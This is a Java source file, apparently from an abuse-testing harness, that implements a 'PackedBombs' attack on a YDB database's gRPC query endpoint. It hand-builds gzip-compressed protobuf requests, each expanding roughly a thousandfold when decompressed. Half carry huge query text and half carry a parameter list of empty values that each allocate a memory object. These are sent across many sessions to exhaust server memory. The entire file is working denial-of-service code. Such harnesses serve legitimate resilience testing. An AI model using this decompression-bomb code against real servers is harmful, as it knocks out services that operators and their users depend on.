package io.cleave.bench.abuse;

import com.google.protobuf.CodedOutputStream;
import com.google.protobuf.WireFormat;

import tech.ydb.proto.ValueProtos.ListType;
import tech.ydb.proto.ValueProtos.OptionalType;
import tech.ydb.proto.ValueProtos.Type;
import tech.ydb.proto.ValueProtos.Type.PrimitiveTypeId;
import tech.ydb.proto.ValueProtos.TypedValue;
import tech.ydb.proto.ValueProtos.Value;
import tech.ydb.proto.query.YdbQuery.ExecuteQueryRequest;
import tech.ydb.proto.query.YdbQuery.QueryContent;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;

/// Compressed messages that are a thousand times larger when they are decompressed. Every second
/// one is a long text. The others are a parameter with a list of empty values, each of which takes
/// two bytes in the message and an object in memory.
record PackedBombs(int bombs, int unpackedBytes) implements Attack {
    private static final int BOMBS_A_CONNECTION = 6;
    private static final int WINDOW_BYTES = 1 << 20;

    private static final String LIST_QUERY = "DECLARE $p AS List<Bool?>; SELECT 1";

    // Fields of a map entry.
    private static final int KEY_FIELD = 1;
    private static final int VALUE_FIELD = 2;

    @Override
    public void run(Target target, Endings endings, Deadline deadline)
            throws IOException, InterruptedException {
        List<QuerySession> sessions =
                QuerySession.openAll(target, bombs, BOMBS_A_CONNECTION, WINDOW_BYTES, endings);
        PackedMessage text = longText();
        PackedMessage items = longList();
        byte[] headers =
                QuerySession.headers(
                        Method.EXECUTE_QUERY, target.database(), "grpc-encoding", "gzip");
        List<CompletableFuture<Ending>> sent = new ArrayList<>();
        for (QuerySession session : sessions) {
            boolean isText = sent.size() % 2 == 0;
            byte[] bomb =
                    isText
                            ? text.endingWith(tail(session, ""))
                            : items.endingWith(tail(session, LIST_QUERY));
            var call = new Ask<>(Method.EXECUTE_QUERY);
            sent.add(call.ending());
            try {
                session.connection().begin(call, headers);
                session.connection().send(call, Frame.message(true, bomb), true);
            } catch (Ask.RefusedException e) {
                var _ = call.ending().complete(e.ending());
            }
        }
        for (CompletableFuture<Ending> each : sent) {
            endings.add(deadline.of(each));
        }
        QuerySession.closeAll(sessions);
    }

    /// The rest of the request. Fields of a message may come in any order, and in several pieces.
    private static byte[] tail(QuerySession session, String text) {
        var request = session.query(text, true);
        return (text.isEmpty() ? request.clearQueryContent() : request).build().toByteArray();
    }

    private PackedMessage longText() throws IOException {
        int bytes = PackedMessage.wholeBytes(unpackedBytes);
        byte[] text = field(QueryContent.TEXT_FIELD_NUMBER, bytes);
        byte[] content = field(ExecuteQueryRequest.QUERY_CONTENT_FIELD_NUMBER, text.length + bytes);
        byte[] x = "x".getBytes(StandardCharsets.US_ASCII);
        return new PackedMessage(Frame.joined(content, text), x, bytes);
    }

    private PackedMessage longList() throws IOException {
        int bytes = PackedMessage.wholeBytes(unpackedBytes);
        Type optional =
                Type.newBuilder()
                        .setOptionalType(
                                OptionalType.newBuilder()
                                        .setItem(Type.newBuilder().setTypeId(PrimitiveTypeId.BOOL)))
                        .build();
        byte[] type =
                TypedValue.newBuilder()
                        .setType(
                                Type.newBuilder()
                                        .setListType(ListType.newBuilder().setItem(optional)))
                        .build()
                        .toByteArray();
        byte[] value = field(TypedValue.VALUE_FIELD_NUMBER, bytes);
        byte[] name = "$p".getBytes(StandardCharsets.US_ASCII);
        byte[] key = Frame.joined(field(KEY_FIELD, name.length), name);
        byte[] typed = field(VALUE_FIELD, type.length + value.length + bytes);
        int entryBytes = key.length + typed.length + type.length + value.length + bytes;
        byte[] entry = field(ExecuteQueryRequest.PARAMETERS_FIELD_NUMBER, entryBytes);
        return new PackedMessage(
                Frame.joined(entry, key, typed, type, value),
                field(Value.ITEMS_FIELD_NUMBER, 0),
                bytes);
    }

    /// The tag and the length of a field of `bytes`.
    private static byte[] field(int number, int bytes) throws IOException {
        var output = new ByteArrayOutputStream();
        var coded = CodedOutputStream.newInstance(output);
        coded.writeTag(number, WireFormat.WIRETYPE_LENGTH_DELIMITED);
        coded.writeUInt32NoTag(bytes);
        coded.flush();
        return output.toByteArray();
    }
}
